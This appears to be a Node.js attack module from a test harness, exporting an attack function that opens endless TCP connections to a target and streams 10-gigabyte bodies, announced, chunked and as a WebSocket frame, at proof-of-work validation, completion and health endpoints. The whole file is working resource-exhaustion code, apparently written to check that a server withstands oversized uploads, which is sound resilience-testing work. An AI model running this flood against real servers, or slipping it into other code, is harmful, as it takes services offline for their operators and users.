// Bodies of ten gigabytes by every door, as fast as they are taken: announced, in chunks, and as one
// message of a WebSocket. A connection that is ended is followed by the next.
import { connect } from "node:net";
import { HANDSHAKE } from "../sockets.mjs";

const SIZE = 10 * 2 ** 30;
const PIECE = Buffer.alloc(65_536, " ");
const CHUNK = Buffer.concat([Buffer.from("10000\r\n"), PIECE, Buffer.from("\r\n")]);

const head = (path, length) =>
  `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n${length}\r\n\r\n`;
const ANNOUNCED = `Content-Length: ${SIZE}`;
const IN_CHUNKS = "Transfer-Encoding: chunked";
/** Of 10 GiB (0x2_8000_0000 bytes), masked with zeros. */
const MESSAGE = Buffer.from([0x81, 0xff, 0, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0]);

/** What is written first, and then again and again. */
const BODIES = [
  [head("/api/v1/pow/validate", ANNOUNCED), PIECE],
  [head("/api/v1/pow/validate", IN_CHUNKS), CHUNK],
  [head("/trpc/pow.validate", ANNOUNCED), PIECE],
  [head("/trpc/pow.validate?batch=1", IN_CHUNKS), CHUNK],
  [head("/v1/completions", IN_CHUNKS), CHUNK],
  [head("/nothing", IN_CHUNKS), CHUNK],
  [head("/livez", ANNOUNCED), PIECE],
  [Buffer.concat([Buffer.from(HANDSHAKE), MESSAGE]), PIECE],
];

export const isStranger = true;

export async function attack(target) {
  await Promise.all(
    BODIES.map(async (body) => {
      for (;;) await send(target, body);
    }),
  );
}

/** Until all of it has been taken, or the connection has been ended. */
async function send({ host, port, localAddress }, [first, then]) {
  const socket = connect({ host, port, localAddress });
  socket.on("error", () => {}).resume();
  const happens = (event) => new Promise((resolve) => socket.once(event, resolve));
  const closed = happens("close");
  socket.write(first);
  for (let sent = 0; sent < SIZE && !socket.destroyed; sent += PIECE.length) {
    if (!socket.write(then)) await Promise.race([happens("drain"), closed]);
  }
  socket.destroy();
}
